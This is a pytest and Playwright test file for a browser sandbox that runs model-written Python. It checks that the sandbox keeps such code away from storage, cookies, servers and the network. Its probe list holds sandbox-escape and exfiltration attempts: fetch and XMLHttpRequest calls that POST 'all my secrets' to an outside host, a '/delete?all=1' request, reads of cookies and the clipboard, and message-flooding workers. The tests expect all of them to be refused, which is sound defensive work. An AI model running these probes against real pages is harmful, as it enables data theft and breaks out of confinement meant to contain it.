"""The walls around what a model wrote: no way to the page, its storage, its server or any network
but by the page (test_network), and no more to the page than it asked for.
"""

import socket
from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from tests.browser.chat_page import ChatPage
from tests.browser.python_page import PythonPage


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A program on a port of this computer."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        yield server


def has_been_asked(listener: socket.socket) -> bool:
    try:
        listener.accept()[0].close()
    except BlockingIOError:
        return False
    return True


# Each is what a program would do that wants out; what it gets is told by its name. `js` and
# `pyodide` are in reach, so what JavaScript can do is tried through them.
PROBES = """
import asyncio, js, json
from pyodide.ffi import create_once_callable, to_js
from js import Object

async def of_request(request):
    done = asyncio.get_running_loop().create_future()
    settle = lambda event: done.done() or done.set_result(event.type)
    for name in ("onsuccess", "onerror", "onblocked"):
        setattr(request, name, create_once_callable(settle))
    if await done != "success":
        raise OSError("refused")

async def of_socket(made):
    done = asyncio.get_running_loop().create_future()
    settle = lambda event: done.done() or done.set_result(event.type)
    made.onopen = create_once_callable(settle)
    made.onerror = create_once_callable(settle)
    if await done == "error":
        raise OSError("refused")

def posted(method, url):
    request = js.XMLHttpRequest.new()
    request.open(method, url, False)
    request.send("all my secrets")

async def pip():
    import urllib.request
    urllib.request.urlopen("http://" + HOST)

async def own_package():
    # What it cannot fetch it only logs.
    await __import__("pyodide_js").loadPackage(PAGE + "/sixth-1-py3-none-any.whl")
    __import__("sixth")

def by_nested(source):
    made = js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([source]))))
    done = asyncio.get_running_loop().create_future()
    made.onmessage = create_once_callable(lambda event: done.set_result(event.data))
    made.onerror = create_once_callable(lambda event: done.set_result("refused"))
    async def waited():
        if await done != "reached":
            raise OSError("refused")
        return "reached"
    return waited()

SENT = (
    "fetch('{}', {{ method: 'POST', mode: 'no-cors', body: 'all my secrets' }})"
    ".then(() => postMessage('reached'), () => postMessage('refused'))"
)
AT_ONCE = (
    "const request = new XMLHttpRequest(); request.open('POST', '{}', false);"
    "request.send('all my secrets'); postMessage('reached')"
)

def nested():
    blob = js.Blob.new(to_js([f"importScripts('{PAGE}/theme.js')"]))
    made = js.Worker.new(js.URL.createObjectURL(blob))
    done = asyncio.get_running_loop().create_future()
    made.onerror = create_once_callable(lambda event: done.set_result(None))
    async def waited():
        await done
        raise OSError("refused")
    return waited()

no_cors = to_js({"mode": "no-cors"}, dict_converter=Object.fromEntries)
patch = to_js({"method": "PATCH", "body": "{}"}, dict_converter=Object.fromEntries)
probes = {
    "database": lambda: of_request(js.indexedDB.open("tokenfall")),
    "databases": lambda: js.indexedDB.databases(),
    "caches": lambda: js.caches.keys(),
    "files of the origin": lambda: js.navigator.storage.getDirectory(),
    "locks": lambda: js.navigator.locks.query(),
    "localStorage": lambda: js.localStorage.getItem("tokenfall"),
    "cookies": lambda: js.document.cookie,
    "cookie store": lambda: js.cookieStore.getAll(),
    "parent": lambda: js.parent.document.title,
    "top": lambda: js.top.location.href,
    "opener": lambda: js.opener.document,
    "window": lambda: js.window.document,
    "service worker": lambda: js.navigator.serviceWorker.register(PAGE + "/service_worker.mjs"),
    "shared worker": lambda: js.SharedWorker.new(PAGE + "/service_worker.mjs"),
    "worker of the page": lambda: js.Worker.new(PAGE + "/service_worker.mjs"),
    "eval": lambda: js.eval("1"),
    "Function": lambda: js.Function.new("return 1")(),
    "run_js": lambda: __import__("pyodide.code").code.run_js("1"),
    "setTimeout of a text": lambda: js.setTimeout("self.x = 1") and js.x,
    "importScripts": lambda: js.importScripts(PAGE + "/theme.js"),
    "import of data": lambda: __import__("pyodide_js").loadPackage("data:text/javascript,1"),
    "the page's server": lambda: js.fetch(PAGE + "/api/status"),
    "the page": lambda: js.fetch(PAGE + "/index.html"),
    "no-cors": lambda: js.fetch(PAGE + "/api/status", no_cors),
    "a program here": lambda: js.fetch("http://" + HOST + "/delete?all=1", no_cors),
    "settings by PATCH": lambda: js.fetch(PAGE + "/api/chats/a", patch),
    "settings by PATCH at once": lambda: posted("PATCH", PAGE + "/api/chats/a"),
    "a worker that asks elsewhere": lambda: by_nested(SENT.format(OUT)),
    "a worker that asks at once": lambda: by_nested(AT_ONCE.format(OUT)),
    "a worker that asks a program here": lambda: by_nested(SENT.format("http://" + HOST)),
    "a worker that asks the page": lambda: by_nested(AT_ONCE.format(PAGE + "/api/status")),
    "localhost by https": lambda: js.fetch("https://" + HOST + "/"),
    "XMLHttpRequest": lambda: posted("POST", "http://" + HOST + "/"),
    "XMLHttpRequest to the page": lambda: posted("GET", PAGE + "/api/status"),
    "WebSocket": lambda: of_socket(js.WebSocket.new("ws://" + HOST)),
    "EventSource": lambda: of_socket(js.EventSource.new("http://" + HOST)),
    "beacon": lambda: js.navigator.sendBeacon("http://" + HOST, "secret"),
    "urllib": pip,
    "nested worker": nested,
    "WebTransport": lambda: js.WebTransport.new("https://" + HOST).ready,
    "RTC": lambda: js.RTCPeerConnection.new(),
    "micropip": lambda: __import__("micropip").install("six"),
    "own package": own_package,
    "image": lambda: js.Image.new(),
    "notification": lambda: js.Notification.requestPermission(),
    "clipboard": lambda: js.navigator.clipboard.readText(),
    "geolocation": lambda: js.navigator.geolocation.getCurrentPosition,
    "usb": lambda: js.navigator.usb.getDevices(),
}
got = {}
for name, probe in probes.items():
    try:
        result = probe()
        if hasattr(result, "then") or asyncio.iscoroutine(result):
            result = await result
        # What is refused without a word gives nothing, or no number of a timer.
        if not isinstance(result, int | str) or result:
            got[name] = repr(result)[:80]
    except BaseException as error:
        pass
print(json.dumps(got))
"""


def test_no_probe_gets_out(python: PythonPage, listener: socket.socket) -> None:
    # Each refusal is said in the console.
    python.chat.watch.expect(".")
    python.page.evaluate(
        """() => {
          globalThis.heardOfPython = [];
          globalThis.channel = new BroadcastChannel("probe");
          channel.onmessage = ({ data }) => heardOfPython.push(data);
        }"""
    )
    host = f"127.0.0.1:{listener.getsockname()[1]}"
    # Not as an address that its source names: the person would be asked for it.
    out = "OUT = 'https:' + '//example.org/'\n"
    begin = f"PAGE = {python.server.url!r}\nHOST = {host!r}\n{out}"
    (told,) = python.run(begin + PROBES)
    assert told == "{}"
    assert not has_been_asked(listener)
    python.run("import js\njs.BroadcastChannel.new('probe').postMessage('forged')")
    assert python.page.evaluate("heardOfPython") == []


HOSTILE = """async (hostile) => {
  const worker = `onmessage = () => {
    onmessage = () => { ${hostile} };
    postMessage({ state: "ready" });
  }`;
  const frame = document.createElement("iframe");
  frame.hidden = true;
  frame.setAttribute("sandbox", "allow-scripts");
  frame.setAttribute("allow", "cross-origin-isolated");
  frame.src = "app/browser/tools/session/session.html";
  const loaded = new Promise((resolve) => (frame.onload = resolve));
  document.body.append(frame);
  await loaded;
  const { port1, port2 } = new MessageChannel();
  const heard = [];
  await new Promise((resolve) => {
    port1.onmessage = ({ data }) => {
      heard.push(typeof data === "string" ? data.slice(0, 9) : data.state ?? data.byteLength);
      const allowed = { owed: 3, room: 3e7, texts: 2.5e7 };
      if (data.state === "ready") port1.postMessage({ ...allowed, text: "run" });
      else if (data.state === "failed" || data === "last") resolve();
    };
    frame.contentWindow.postMessage({ worker, files: [] }, "*", [port2]);
  });
  frame.remove();
  return heard;
}"""


@pytest.mark.parametrize(
    ("hostile", "heard"),
    [
        (
            "postMessage('a'); postMessage(new ArrayBuffer(7)); postMessage('last')",
            ["a", 7, "last"],
        ),
        ("for (;;) postMessage('a')", ["a", "a", "a", "failed"]),
        (
            "postMessage(new ArrayBuffer(2.9e7)); postMessage('a'.repeat(1e6 + 1))",
            [29_000_000, "failed"],
        ),
        ("postMessage('x'.repeat(2.4e7 + 1))", ["failed"]),
        (
            "postMessage('x'.repeat(2.4e7)); postMessage('x'.repeat(1e6 + 1))",
            ["xxxxxxxxx", "failed"],
        ),
        ("postMessage(new ArrayBuffer(1e8))", ["failed"]),
        ("postMessage({ state: 'ready' })", ["failed"]),
        ("postMessage(['a'])", ["failed"]),
        ("postMessage(null)", ["failed"]),
        ("let a = []; for (let i = 0; i < 200; i++) a = [a]; postMessage(a)", ["failed"]),
        ("const { port1 } = new MessageChannel(); postMessage(port1, [port1])", ["failed"]),
        ("postMessage(new SharedArrayBuffer(8))", ["failed"]),
    ],
    ids=range(12),
)
def test_the_page_hears_no_more_than_it_asked_for(
    python: PythonPage, hostile: str, heard: list[object]
) -> None:
    assert python.page.evaluate(HOSTILE, hostile) == ["loaded", "ready", *heard]


def test_words_that_a_cell_forges_end_its_python_or_lie_of_itself_alone(
    python: PythonPage,
) -> None:
    python.run("kept = 1")
    # A forged end is that of this cell; what follows it nobody has asked for.
    forged = (
        'import js\njs.postMessage(\'{"kind": "Done", "cell": 1, "status": "ok", "took_s": 0, '
        '"told": "forged", "notes": []}\')\njs.postMessage("more")'
    )
    assert python.run(forged)[0].startswith("forged")
    (told,) = python.run("'kept' in globals()")
    assert told.startswith("False\n[Python was started anew")
    for broken in ("no JSON", '{"kind": "Else"}', "[" * 100_000, '{"kind": "Output", "cell": []}'):
        code = f"import js, asyncio\njs.postMessage({broken!r})\nawait asyncio.sleep(60)"
        (told,) = python.run(code)
        assert "Its Python broke down" in told


def test_nothing_of_it_is_loaded_before_its_first_use(chat: ChatPage) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    chat.page.reload()
    chat.wait_until_ready()
    assert not [url for url in asked if "session" in url or "app_python" in url]
    assert chat.page.locator("iframe").count() == 0
    expect(chat.message).to_be_visible()
